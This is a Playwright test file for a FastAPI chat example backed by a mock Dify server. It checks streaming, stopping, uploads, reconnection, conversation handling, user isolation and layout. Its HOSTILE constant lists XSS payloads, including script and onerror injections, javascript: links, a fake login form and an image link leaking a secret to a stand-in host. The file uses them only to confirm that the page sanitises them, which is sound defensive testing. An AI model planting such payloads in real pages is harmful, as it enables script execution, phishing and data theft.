"""The chat page of examples/fastapi_chat in a real browser, over the embedded Dify."""

from __future__ import annotations

import os
import re
import signal
import socket
import subprocess
import sys
import time
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from browser import DESKTOP, PHONE, browser, is_wider_than_its_window, picture
from wire import Wire

from pydify_plus.testing import App, DifyServer, Fault, InputField, Turn, echo

if TYPE_CHECKING:
    from playwright.sync_api import Browser, BrowserContext, Locator, Page

pytest.importorskip("playwright")
pytestmark = pytest.mark.slow

EXAMPLE = Path(__file__).parents[2] / "examples" / "fastapi_chat"
WORDS = "".join(f"word{number} " for number in range(40)).strip()
SLOW = "[[chunks:40]][[delay:60]]"

HOSTILE = """\
<script>pwned = 1</script><img src=x onerror="pwned = 1"><svg onload="pwned = 1"></svg>

<iframe src="https://elsewhere.example/"></iframe><style>body { display: none }</style>

<form action="https://elsewhere.example/"><input name=password><button>Log in</button></form>

<a href="javascript:pwned = 1">raw</a> [markdown](javascript:pwned=1) [data](data:text/html,<script>1</script>)

![leak](https://elsewhere.example/leak?secret) ![x](x"onerror="pwned=1)

<div id="composer" class="error" style="position:fixed;inset:0" onclick="pwned = 1">over the page</div>

<math><mi xlink:href="javascript:pwned=1">m</mi></math><object data="x"></object><base href="https://elsewhere.example/">

[fine](https://good.example/)
"""

SHOWN = """\
Here is **what I found** about [the API](https://docs.example/):

1. It answers *at once*.
2. It costs `0.002` per call, see the [very long address](https://docs.example/).

| Mode | Streams | Keeps | Needs a form | Cost per thousand |
|:--|:-:|:-:|:-:|--:|
| Chat | yes | yes | no | 0.12 |
| Workflow | yes | no | yes | 0.34 |

```python
async for piece in client.chat.stream_chat_message(query="A long line that does not fit on a phone", user="alice").text():
    print(piece)
```

> 引用：这一段是中文，不能超出屏幕。
"""


def say(turn: Turn) -> Any:
    """What the app answers: `say …` is said as it is, one question is answered with all of markdown, the rest as the default apps do."""
    if turn.query.startswith("say "):
        return turn.query.removeprefix("say ")
    return SHOWN if turn.query == "What have you found?" else echo(turn)


@pytest.fixture(scope="module")
def dify() -> Iterator[DifyServer]:
    opening = App(
        "Helper", "chat", "Helps", answer=say, opening_statement="Hello!", suggested_questions=("Who are you?",)
    )
    form = App(
        "Form", "chat", inputs=(InputField("name", label="Your name", required=True), InputField("age", "number"))
    )
    with DifyServer((opening, form), chunk_delay=0.0) as server:
        yield server


@pytest.fixture(scope="module")
def port(dify: DifyServer) -> Iterator[int]:
    with serving(dify, "Helper") as port:
        yield port


class serving:
    """The example's own command, as a process."""

    def __init__(self, dify: DifyServer, app: str) -> None:
        self._environment = {**os.environ, "DIFY_BASE_URL": dify.base_url, "DIFY_API_KEY": dify.app_key(app)}

    def __enter__(self) -> int:
        with socket.create_server(("127.0.0.1", 0)) as free:
            port: int = free.getsockname()[1]
        command = [sys.executable, str(EXAMPLE / "main.py"), "--port", str(port)]
        self._process = subprocess.Popen(command, env=self._environment)
        until_true(lambda: is_answering(port), 30, self._process)
        return port

    def __exit__(self, *_: object) -> None:
        self._process.terminate()
        # uvicorn ends in order, whoever is connected, and then by the signal that asked for it
        assert self._process.wait(20) == -signal.SIGTERM


def is_answering(port: int) -> bool:
    try:
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/", timeout=5) as response:
            return bool(response.status == 200)
    except OSError:
        return False


def until_true(holds: Callable[[], bool], seconds: float, process: subprocess.Popen[bytes] | None = None) -> None:
    end = time.monotonic() + seconds
    while not holds():
        assert time.monotonic() < end, "it took too long"
        assert process is None or process.poll() is None, "the process has ended"
        time.sleep(0.05)


@pytest.fixture(scope="module")
def chrome() -> Iterator[Browser]:
    with browser() as opened:
        yield opened


@pytest.fixture
def wire(port: int) -> Iterator[Wire]:
    with Wire(port) as wire:
        yield wire


@pytest.fixture
def visit(chrome: Browser, wire: Wire) -> Iterator[Callable[..., Chat]]:
    """Opens the page as a new user: `visit(viewport=PHONE)`."""
    contexts: list[BrowserContext] = []

    def open_page(**options: Any) -> Chat:
        context = chrome.new_context(viewport=options.pop("viewport", DESKTOP), **options)
        context.set_default_timeout(20_000)
        contexts.append(context)
        page = context.new_page()
        chat = Chat(page)
        page.goto(f"http://127.0.0.1:{wire.port}/")
        page.get_by_role("heading", name="Helper", level=1).wait_for()
        return chat

    yield open_page
    for context in contexts:
        context.close()


@pytest.fixture
def chat(visit: Callable[..., Chat], dify: DifyServer) -> Chat:
    dify.requests.clear()
    return visit()


class Chat:
    """The page, in the words of who uses it."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.problems: list[str] = []
        page.on("pageerror", lambda error: self.problems.append(str(error)))
        page.on("dialog", lambda dialog: self.problems.append(f"a dialog: {dialog.message}"))

    def ask(self, question: str) -> None:
        self.page.get_by_label("Your question").fill(question)
        self.page.keyboard.press("Enter")

    @property
    def answer(self) -> Locator:
        return self.page.locator("article.answer").last

    @property
    def text(self) -> str:
        return self.answer.locator(".text").inner_text()

    def wait_for_words(self, number: int) -> None:
        self.page.wait_for_function(
            "n => document.querySelector('article.answer:last-child .text')?.innerText.includes(`word${n} `)",
            arg=number,
        )

    def wait_for_end(self) -> None:
        self.page.locator("article.answer:last-child:not([aria-busy])").wait_for()
        self.page.get_by_role("button", name="Send").wait_for()

    def conversations(self) -> list[str]:
        return self.page.locator("#conversations .name").all_inner_texts()


def asked(dify: DifyServer, text: str = "") -> list[Any]:
    return [
        request.json
        for request in dify.requests
        if request.operation == "sendChatMessage" and text in request.json["query"]
    ]


def test_an_answer_grows_and_is_kept(chat: Chat, dify: DifyServer) -> None:
    chat.ask(SLOW)
    lengths = []
    for word in (3, 12, 25):
        chat.wait_for_words(word)
        lengths.append(len(chat.text))
    assert lengths == sorted(set(lengths)), "it grows"
    assert lengths[0] < len(WORDS) // 2
    chat.wait_for_end()
    assert chat.text == WORDS
    assert chat.conversations() != []
    assert len(asked(dify)) == 1

    chat.ask("What did I say?")
    chat.wait_for_end()
    assert "[[chunks:40]]" in chat.text, "it is the same conversation"
    chat.page.reload()
    chat.page.get_by_text("What did I say?", exact=True).wait_for()
    assert chat.page.locator("article").count() == 4
    assert not chat.problems


def test_stop_stops_in_dify(chat: Chat, dify: DifyServer) -> None:
    chat.ask("[[chunks:200]][[delay:60]]")
    chat.wait_for_words(4)
    chat.page.get_by_role("button", name="Stop").click()
    chat.answer.get_by_text("Stopped").wait_for()
    chat.wait_for_end()
    assert "word4 " in chat.text
    assert "word150" not in chat.text
    (question,) = asked(dify)
    (stop,) = [request for request in dify.requests if request.operation == "stopChatMessageGeneration"]
    assert stop.json["user"] == question["user"]
    chat.ask("Go on")
    chat.wait_for_end()
    assert chat.text == "You said: Go on"


def test_files_go_along(chat: Chat, dify: DifyServer) -> None:
    files = [
        {"name": "note 笔记.txt", "mimeType": "text/plain", "buffer": b"The door code is 1234."},
        {"name": "no.txt", "mimeType": "text/plain", "buffer": b"not this one"},
    ]
    chat.page.locator("#file").set_input_files(files)  # type: ignore[arg-type]
    chat.page.get_by_role("button", name="Remove no.txt").click()
    chat.page.locator("#files li[aria-busy=false]").wait_for()
    chat.ask("Read this")
    chat.wait_for_end()
    (question,) = asked(dify)
    (file,) = question["files"]
    assert file["type"] == "document"
    assert file["transfer_method"] == "local_file"
    uploads = [request for request in dify.requests if request.operation == "uploadChatFile"]
    assert {upload.form["user"] for upload in uploads} == {question["user"]}
    assert chat.page.locator("article.question").get_by_text("note 笔记.txt").is_visible()
    assert chat.page.locator("#files li").count() == 0
    chat.page.reload()
    chat.page.locator("article.question").get_by_text("note 笔记.txt").wait_for()


def test_a_refused_file_is_told(chat: Chat, dify: DifyServer) -> None:
    with dify.faults.add(Fault.status(413, code="file_too_large"), operation="uploadChatFile"):
        chat.page.locator("#file").set_input_files(
            {"name": "big.bin", "mimeType": "text/plain", "buffer": b"0"}  # type: ignore[arg-type]
        )
        chat.page.get_by_text("big.bin: This file is too large.").wait_for()
    assert chat.page.locator("#files li").count() == 0


def test_offline_and_back(chat: Chat, dify: DifyServer) -> None:
    chat.ask(SLOW)
    chat.wait_for_words(5)
    chat.page.context.set_offline(True)
    chat.page.get_by_text("The connection is lost.").wait_for()
    chat.page.context.set_offline(False)
    chat.wait_for_end()
    assert chat.text == WORDS
    assert len(asked(dify)) == 1
    assert chat.page.locator("#notice").inner_text() == ""


def test_the_sockets_are_cut_again_and_again(chat: Chat, dify: DifyServer, wire: Wire) -> None:
    chat.ask(SLOW)
    for word in (4, 14, 24):
        chat.wait_for_words(word)
        assert wire.cut() > 0
        chat.page.get_by_text("The connection is lost.").wait_for()
        wire.mend()
    chat.wait_for_end()
    assert chat.text == WORDS
    assert len(asked(dify)) == 1


def test_a_page_that_is_loaded_again_goes_on(chat: Chat, dify: DifyServer) -> None:
    chat.ask(SLOW)
    chat.wait_for_words(6)
    chat.page.reload()
    chat.wait_for_words(20)
    chat.wait_for_end()
    assert chat.text == WORDS
    assert chat.page.locator("article").count() == 2
    assert len(asked(dify)) == 1


def test_a_question_whose_arrival_is_unknown_is_asked_once(chat: Chat, dify: DifyServer) -> None:
    def lose_the_answer(route: Any) -> None:
        route.fetch()
        route.abort()

    chat.page.route(re.compile("/api/answers/[0-9a-f]+$"), lose_the_answer, times=1)
    chat.ask("Are you there?")
    chat.page.get_by_text("The server cannot be reached.").wait_for()
    chat.page.get_by_role("button", name="Try again").click()
    chat.wait_for_end()
    assert chat.text == "You said: Are you there?"
    assert chat.page.locator("article").count() == 2
    assert len(asked(dify)) == 1


def test_the_stream_from_dify_breaks(chat: Chat, dify: DifyServer) -> None:
    dify.faults.add(Fault.cut(events=5, reset=True), operation="sendChatMessage")
    chat.ask("[[chunks:40]][[delay:20]]")
    chat.wait_for_end()
    assert chat.text == WORDS
    assert len(asked(dify)) == 1


def test_errors_are_told_in_words(chat: Chat, dify: DifyServer) -> None:
    dify.faults.add(Fault.reset(), operation="sendChatMessage")
    chat.ask("Hello")
    error = chat.page.get_by_role("alert")
    assert "Dify cannot be reached at the moment" in error.inner_text()
    chat.page.get_by_role("button", name="Try again").click()
    chat.page.get_by_text("You said: Hello").wait_for()
    assert error.count() == 0
    chat.wait_for_end()

    chat.ask("[[errormid]] one two three four five")
    assert "The app failed to answer" in error.inner_text()
    assert chat.text.startswith("You said:"), "what came before stays"
    assert chat.page.get_by_role("button", name="Send").is_visible()


def test_conversations_are_opened_renamed_and_deleted(chat: Chat, dify: DifyServer) -> None:
    page = chat.page
    chat.ask("The first")
    chat.wait_for_end()
    page.get_by_role("button", name="New conversation").click()
    chat.ask("The second")
    chat.wait_for_end()
    page.locator("#conversations li").nth(1).wait_for()
    assert len(chat.conversations()) == 2

    first = page.locator("#conversations li").nth(1)
    first.get_by_role("button", name=re.compile("^Rename")).focus()
    page.keyboard.press("Enter")
    page.get_by_label("New name").fill("An older one <b>")
    page.keyboard.press("Enter")
    page.get_by_role("button", name="An older one <b>", exact=True).click()
    page.locator("article.question").get_by_text("The first", exact=True).wait_for()
    assert page.locator("article").count() == 2
    chat.ask("What did I say?")
    chat.wait_for_end()
    assert "The first" in chat.text
    assert "The second" not in chat.text

    page.get_by_role("button", name="Delete An older one <b>").click()
    page.get_by_role("button", name="Keep it").click()
    page.get_by_role("button", name="Delete An older one <b>").click()
    page.get_by_role("button", name="Delete", exact=True).click()
    page.wait_for_function("() => document.querySelectorAll('#conversations li').length === 1")
    assert page.locator("article").count() == 0
    page.reload()
    page.locator("#conversations li").wait_for()
    assert page.get_by_text("An older one").count() == 0
    assert not chat.problems


def test_users_do_not_see_each_other(chat: Chat, visit: Callable[..., Chat], dify: DifyServer) -> None:
    chat.ask("A secret")
    chat.wait_for_end()
    until_true(lambda: len(chat.conversations()) == 1, 10)
    other = visit()
    other.ask("Another secret")
    other.wait_for_end()
    until_true(lambda: len(other.conversations()) == 1, 10)
    assert other.conversations() != chat.conversations()
    other.page.goto(chat.page.url)  # somebody else's conversation, by its address
    other.page.reload()
    other.page.get_by_text("This is not there any more.").wait_for()
    assert other.page.get_by_text("A secret", exact=True).count() == 0
    assert len({question["user"] for question in asked(dify)}) == 2
    (cookie,) = chat.page.context.cookies()
    assert cookie["httpOnly"]
    assert cookie["sameSite"] == "Lax"
    assert cookie["value"] not in str([request.json for request in dify.requests]), "the secret stays here"


def test_hostile_markdown_does_nothing(chat: Chat) -> None:
    page, elsewhere = chat.page, []
    page.on("request", lambda request: "127.0.0.1" in request.url or elsewhere.append(request.url))
    chat.ask(f"say {HOSTILE}")
    chat.wait_for_end()
    text = chat.answer.locator(".text")
    for link in text.get_by_role("link").all():
        assert re.match("https://(good|elsewhere).example/", str(link.get_attribute("href")))
        assert "noopener" in str(link.get_attribute("rel"))
    assert text.get_by_role("link", name="fine").count() == 1
    forbidden = (
        "script, style, img, svg, iframe, form, input, button, object, base, math, [class], [id], [style], [onclick]"
    )
    assert text.locator(forbidden).evaluate_all("all => all.filter(one => one.className !== 'scroll').length") == 0
    assert page.evaluate("typeof pwned") == "undefined"
    assert elsewhere == []
    assert chat.problems == []


def test_an_app_with_a_form(dify: DifyServer, chrome: Browser, tmp_path: Path) -> None:
    with serving(dify, "Form") as port:
        page = chrome.new_page(viewport=PHONE)  # type: ignore[arg-type]
        chat = Chat(page)
        page.goto(f"http://127.0.0.1:{port}/")
        page.get_by_label("Your name").wait_for()
        picture(page, tmp_path, "form-phone")
        chat.ask("Hello")
        page.get_by_text("Please fill in the form first.").wait_for()
        page.get_by_label("Your name").fill("Ann")
        page.get_by_role("spinbutton").fill("42")
        chat.ask("Hello")
        chat.wait_for_end()
        assert [question["inputs"] for question in asked(dify) if question["inputs"]] == [{"name": "Ann", "age": 42}]
        page.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("viewport", [PHONE, DESKTOP], ids=["phone", "desktop"])
def test_it_fits(
    visit: Callable[..., Chat], viewport: dict[str, int], scheme: str, dify: DifyServer, tmp_path: Path
) -> None:
    chat = visit(viewport=viewport, color_scheme=scheme)
    page, name = chat.page, f"{'phone' if viewport is PHONE else 'desktop'}-{scheme}"
    picture(page, tmp_path, f"{name}-1-start")
    page.locator("#file").set_input_files({"name": "report.pdf", "mimeType": "application/pdf", "buffer": b"%PDF"})  # type: ignore[arg-type]
    page.locator("#files li[aria-busy=false]").wait_for()
    chat.ask("What have you found?")
    chat.wait_for_end()
    picture(page, tmp_path, f"{name}-2-answer")
    assert not is_wider_than_its_window(page)
    composer = page.locator("#composer").bounding_box()
    assert composer
    assert composer["y"] + composer["height"] <= viewport["height"], "the question is asked without scrolling"
    chat.ask(SLOW)
    chat.wait_for_words(5)
    picture(page, tmp_path, f"{name}-3-growing")
    page.get_by_role("button", name="Stop").click()
    chat.wait_for_end()
    chat.ask("[[error]]")
    page.get_by_role("alert").wait_for()
    picture(page, tmp_path, f"{name}-4-error")
    if viewport is PHONE:
        assert not page.get_by_role("button", name="New conversation").is_visible()
        page.get_by_role("button", name="Conversations").click()
        page.get_by_role("button", name="New conversation").wait_for()
        picture(page, tmp_path, f"{name}-5-menu")
        page.keyboard.press("Escape")
        page.wait_for_function("() => document.activeElement.id === 'menu'")
    background = page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert background == ("rgb(255, 255, 255)" if scheme == "light" else "rgb(22, 24, 28)")
    assert not is_wider_than_its_window(page)
    assert chat.problems == []
